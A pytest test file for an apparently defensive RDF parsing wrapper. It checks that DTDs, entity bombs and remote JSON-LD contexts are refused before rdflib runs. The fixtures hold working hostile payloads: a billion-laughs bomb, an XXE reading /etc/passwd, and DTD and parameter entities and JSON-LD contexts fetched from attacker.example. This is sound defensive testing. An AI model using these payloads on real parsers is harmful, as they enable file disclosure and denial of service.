"""Untrusted RDF: DTDs, entity bombs, external entities and remote JSON-LD contexts are refused
with a clear message before rdflib sees a byte; good input of every format parses."""

from __future__ import annotations

import pytest
from rdflib import Graph, Literal, URIRef

from knowledgehub.linkeddata import safe_rdf
from knowledgehub.linkeddata.safe_rdf import UnsafeRDF, parse_rdf

FOAF_NAME = URIRef("http://xmlns.com/foaf/0.1/name")
ALICE = URIRef("http://example.org/alice")

GOOD = {
    "turtle": b'<http://example.org/alice> <http://xmlns.com/foaf/0.1/name> "Alice" .',
    "nt": b'<http://example.org/alice> <http://xmlns.com/foaf/0.1/name> "Alice" .\n',
    "json-ld": (
        b'{"@context": {"name": "http://xmlns.com/foaf/0.1/name"},'
        b' "@id": "http://example.org/alice", "name": "Alice"}'
    ),
    "xml": (
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        b' xmlns:foaf="http://xmlns.com/foaf/0.1/">'
        b'<rdf:Description rdf:about="http://example.org/alice"><foaf:name>Alice</foaf:name>'
        b"</rdf:Description></rdf:RDF>"
    ),
}

RDF_OPEN = b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n"
    + RDF_OPEN
    + b"<rdf:Description rdf:about='http://example.org/x'>"
    + b'<n:v xmlns:n="http://example.org/">&lol9;</n:v></rdf:Description></rdf:RDF>'
)

EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + RDF_OPEN
    + b"<rdf:Description rdf:about='http://example.org/x'>"
    + b'<n:v xmlns:n="http://example.org/">&xxe;</n:v></rdf:Description></rdf:RDF>'
)

EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF SYSTEM "http://attacker.example/evil.dtd">\n'
    + RDF_OPEN
    + b"</rdf:RDF>"
)

PARAMETER_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x">'
    b" %remote;]>\n" + RDF_OPEN + b"</rdf:RDF>"
)


@pytest.fixture
def rdflib_must_not_parse(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if refused input ever reaches rdflib's parser."""

    def refuse(self: Graph, *args: object, **kwargs: object) -> Graph:
        raise AssertionError("rdflib saw input that should have been refused")

    monkeypatch.setattr(Graph, "parse", refuse)


@pytest.mark.parametrize("fmt", sorted(GOOD))
def test_good_input_parses(fmt: str) -> None:
    graph = parse_rdf(GOOD[fmt], fmt)
    assert (ALICE, FOAF_NAME, Literal("Alice")) in graph


@pytest.mark.parametrize(
    ("fmt", "alias"),
    [("turtle", "text/turtle"), ("json-ld", "application/ld+json"), ("xml", "application/rdf+xml")],
)
def test_media_types_name_formats(fmt: str, alias: str) -> None:
    assert len(parse_rdf(GOOD[fmt], alias)) == 1


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY]
)
def test_xml_with_a_doctype_is_refused_before_rdflib(
    document: bytes, rdflib_must_not_parse
) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(UnsafeRDF, match="DOCTYPE"):
        parse_rdf(document, "xml")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_doctype_in_utf16_is_refused_too(encoding: str, rdflib_must_not_parse) -> None:  # type: ignore[no-untyped-def]
    document = BILLION_LAUGHS.decode().replace(
        'version="1.0"?', f'version="1.0" encoding="{encoding}"?'
    )
    with pytest.raises(UnsafeRDF, match="DOCTYPE"):
        parse_rdf(document.encode(encoding), "xml")


def test_defusedxml_refuses_what_the_byte_scan_misses(  # type: ignore[no-untyped-def]
    monkeypatch: pytest.MonkeyPatch, rdflib_must_not_parse
) -> None:
    """The second line of defence, on its own: with the quick scan switched off, the full
    defusedxml parse still refuses every DTD before rdflib."""
    monkeypatch.setattr(safe_rdf, "_SCAN", ())
    for document in (BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY):
        with pytest.raises(UnsafeRDF, match="DOCTYPE"):
            parse_rdf(document, "xml")


def test_malformed_xml_is_a_clear_error() -> None:
    with pytest.raises(UnsafeRDF, match="well-formed"):
        parse_rdf(b"<rdf:RDF><unclosed>", "xml")


def test_binary_garbage_is_a_clear_error() -> None:
    garbage = bytes(range(256)) * 10
    for fmt in ("xml", "turtle", "json-ld"):
        with pytest.raises(UnsafeRDF):
            parse_rdf(garbage, fmt)


@pytest.mark.parametrize(
    "document",
    [
        b'{"@context": "http://attacker.example/context.jsonld", "@id": "http://a"}',
        b'{"@context": ["https://schema.org/", {"a": "http://a/"}], "@id": "http://a"}',
        b'{"@context": "/relative/context", "@id": "http://a"}',
        # Nested: a scoped context inside a term definition.
        b'{"@context": {"p": {"@id": "http://p", "@context": "http://attacker.example/c"}},'
        b' "@id": "http://a", "p": {"@id": "http://b"}}',
        # Deep in the graph.
        b'{"@graph": [{"@id": "http://a", "http://p": [{"@context": "http://evil/"}]}]}',
        # JSON-LD 1.1 @import of a remote context.
        b'{"@context": {"@import": "http://attacker.example/c"}, "@id": "http://a"}',
    ],
)
def test_json_ld_remote_contexts_are_refused(document: bytes, rdflib_must_not_parse) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(UnsafeRDF, match="remote @context"):
        parse_rdf(document, "json-ld")


def test_json_ld_with_a_null_context_is_fine() -> None:
    graph = parse_rdf(b'{"@context": null, "@id": "http://a", "http://p": "v"}', "json-ld")
    assert len(graph) == 1


def test_json_ld_nested_too_deeply_is_refused(rdflib_must_not_parse) -> None:  # type: ignore[no-untyped-def]
    deep = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    with pytest.raises(UnsafeRDF, match="nested too deeply"):
        parse_rdf(deep, "json-ld")
    deep = b"[" * 300 + b"]" * 300
    with pytest.raises(UnsafeRDF, match="nested too deeply"):
        parse_rdf(deep, "json-ld")


def test_invalid_json_is_a_clear_error() -> None:
    with pytest.raises(UnsafeRDF, match="not valid JSON"):
        parse_rdf(b'{"@id": ', "json-ld")


def test_too_big_is_refused_before_parsing(rdflib_must_not_parse) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(UnsafeRDF, match="too big"):
        parse_rdf(GOOD["turtle"] * 1000, "turtle", max_bytes=1000)
    with pytest.raises(UnsafeRDF, match="too big"):
        parse_rdf(b" " * (safe_rdf.MAX_RDF_BYTES + 1), "xml")


def test_unknown_format_is_refused() -> None:
    with pytest.raises(UnsafeRDF, match="Unknown RDF format"):
        parse_rdf(GOOD["turtle"], "n3-with-formulae")


def test_invalid_turtle_is_a_clear_error() -> None:
    with pytest.raises(UnsafeRDF, match="not valid RDF"):
        parse_rdf(b"<http://a> <http://b> ", "turtle")
